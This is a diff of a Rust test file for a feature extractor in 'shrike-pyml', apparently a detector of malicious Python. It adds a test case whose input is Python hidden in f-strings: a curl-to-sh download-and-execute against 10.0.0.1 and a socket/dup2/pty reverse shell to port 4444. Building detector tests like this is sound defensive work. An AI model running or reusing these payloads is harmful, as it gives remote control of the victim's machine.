@@ -1,9 +1,13 @@
 //! Pins the features of a few inputs that exercise the tokenizer's corners (spaced dotted
 //! names, escapes, unterminated and prefixed strings, CRLF, Unicode, junk) and the payload,
 //! entropy and URL paths. The committed model was trained on these values: a change that moves
-//! them needs a retrained model, not a new pin. (Last moved with shrike-pyml-2: folded string
-//! pieces are scanned as one string, and `exec_decoded_literal` is new.) (`cargo run --release -p shrike-pyml --example
-//! feature_dump` compares two versions over whole corpora.)
+//! them needs a retrained model, not a new pin, unless the committed model, evaluated again
+//! under the new features (`scripts/train-pyml.sh --evaluate crates/pyml/model/shrike-pyml.model`),
+//! still passes the held-out test and the blind sets, as the model card then records. (Last
+//! moved in the twentieth session: f-strings are read as CPython 3.12 reads them, their fields
+//! as code and their text with `{}` for each field; the committed model was kept.)
+//! (`cargo run --release -p shrike-pyml --example feature_dump` compares two versions over whole
+//! corpora.)
 #![allow(missing_docs, reason = "test code")]
 
 use shrike_pyml::features::{extract, NAMES};
@@ -28,7 +32,12 @@ const CASES: &[(&str, &str, &str)] = &[
     (
         "prefixes_and_escapes",
         "a = rb'\\d+\\'' + Rb\"x\" + b'\\777\\0\\x4' + u'\\u00e9\\N{X}\\U0001F600' + f'{a}' + '\\\nb' + r'''x\ny'''\n",
-        "string_entropy=3e58b480 escape_density=3e2e4c41 size=3e996023 | 2883,7567,7594,7658,7696,8210,10540,11624,11749,11899,12604,15057,17076,17359,20615,21066",
+        "string_entropy=3db3f460 escape_density=3e2e4c41 size=3e996023 | 2883,7567,7594,7658,7696,7869,8210,10540,11624,11749,11899,12604,15057,17076,17359,20615,21066,28365",
+    ),
+    (
+        "fstring_fields",
+        "f\"{__import__('os').system('curl http://10.0.0.1/x | sh')}\"\nimport socket, pty\ns = socket.socket()\nf'''{s.connect((\"10.0.0.1\", 4444))}{[__import__(\"os\").dup2(s.fileno(), k) for k in (0, 1, 2)]}\n{pty.spawn(\"/bin/sh\")}'''\n",
+        "dynamic_import=3f800000 os_system=3f800000 dup2=3f800000 pty=3f800000 socket=3f800000 connect=3f800000 shell_string=3f800000 download_command=3f800000 ip_literal=3f800000 raw_ip_url=3f800000 url=3e4aff64 size=3eb5cfaf reverse_shell=3f800000 socket_shell=3f800000 download_exec=3f800000 | 359,863,912,1448,2716,2829,4308,5500,5767,5882,6161,7567,8122,8158,10474,10739,11031,11624,11980,14570,15012,16013,17697,17794,17817,18259,18656,20417,21066,21480,21660,22735,22977,24535,25540,25857,26156,30029,30316,30413,30732,31390,32021,32226",
     ),
     (
         "base64_payload",
